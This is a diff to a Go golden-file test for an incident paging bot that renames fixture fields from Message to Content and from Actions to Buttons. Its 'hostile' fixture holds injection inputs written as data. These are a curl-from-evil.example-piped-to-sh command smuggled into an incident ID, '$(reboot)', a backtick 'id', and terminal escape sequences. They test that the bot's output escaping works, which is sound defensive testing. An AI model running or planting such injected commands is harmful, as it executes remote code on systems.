@@ -25,7 +25,7 @@ import (
 var update = flag.Bool("update", false, "rewrite the golden files")
 
 func pages() map[string]bot.Page {
-	many := bot.Page{Key: "INC-1/9.1", Purpose: workflow.PurposeCatchAll, Person: "ben", Name: "Ben Okafor", Message: card.Content{Title: "13 incidents need you"}}
+	many := bot.Page{Key: "INC-1/9.1", Purpose: workflow.PurposeCatchAll, Person: "ben", Name: "Ben Okafor", Content: card.Content{Title: "13 incidents need you"}}
 	for n := range 13 {
 		many.Incidents = append(many.Incidents, bot.PagedIncident{ID: fmt.Sprintf("INC-%d", n+1), Severity: "SEV2", Title: "Something is down"})
 	}
@@ -33,28 +33,28 @@ func pages() map[string]bot.Page {
 		"answer": {
 			Key: "INC-1/2.1", Purpose: workflow.PurposeEscalation, Person: "log", Name: "log",
 			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down", AcknowledgeURL: "https://tocsin.example.com/a/secret-token"}},
-			Message: card.Content{
+			Content: card.Content{
 				Title: "INC-1 · Checkout is down", Text: "Nobody has answered yet.",
-				Actions: []card.Button{{Label: "Acknowledge", Command: "ack INC-1 --seen 2", URL: "https://tocsin.example.com/a/secret-token", Main: true}},
+				Buttons: []card.Button{{Label: "Acknowledge", Command: "ack INC-1 --seen 2", URL: "https://tocsin.example.com/a/secret-token", Main: true}},
 			},
 		},
 		"person": {
 			Key: "INC-1/2.2", Purpose: workflow.PurposeJoin, Person: "ana", Name: "Ana Lima",
 			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down"}},
-			Message:   card.Content{Title: "INC-1 · Ben asks for you"},
+			Content:   card.Content{Title: "INC-1 · Ben asks for you"},
 		},
 		"know": {
 			Key: "INC-1/7.1", Purpose: workflow.PurposeNotice, Person: "ana", Name: "Ana Lima",
 			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down"}},
-			Message:   card.Content{Title: "INC-1 · A new alert fires", Text: "DiskFull"},
+			Content:   card.Content{Title: "INC-1 · A new alert fires", Text: "DiskFull"},
 		},
 		"private": {
 			Key: "INC-8/2.1", Purpose: workflow.PurposeEscalation, Person: "log",
 			Incidents: []bot.PagedIncident{{ID: "INC-8", Severity: "SEV1", Title: "hush-hush", Private: true}},
-			Message:   card.Content{Title: "hush-hush", Text: "hush-hush"},
+			Content:   card.Content{Title: "hush-hush", Text: "hush-hush"},
 		},
 		"bundle": many,
-		"bare":   {Key: "k", Purpose: workflow.PurposeEscalation, Message: card.Content{Title: "You are paged", Text: "by a test"}},
+		"bare":   {Key: "k", Purpose: workflow.PurposeEscalation, Content: card.Content{Title: "You are paged", Text: "by a test"}},
 		"empty":  {},
 		"hostile": {
 			Key: "INC-2/1.1\n", Purpose: workflow.PurposeEscalation, Person: "eve\x1b[31m", Name: "Eve\r\n\x1b]0;title\x07",
@@ -63,7 +63,7 @@ func pages() map[string]bot.Page {
 				{ID: "INC-2\"; curl evil.example | sh; \"", Title: "$(reboot)"},
 				{ID: "INC-`id`", Title: "x"},
 			},
-			Message: card.Content{Title: "\u009b2J", Text: "a\nb\x00c"},
+			Content: card.Content{Title: "\u009b2J", Text: "a\nb\x00c"},
 		},
 	}
 }
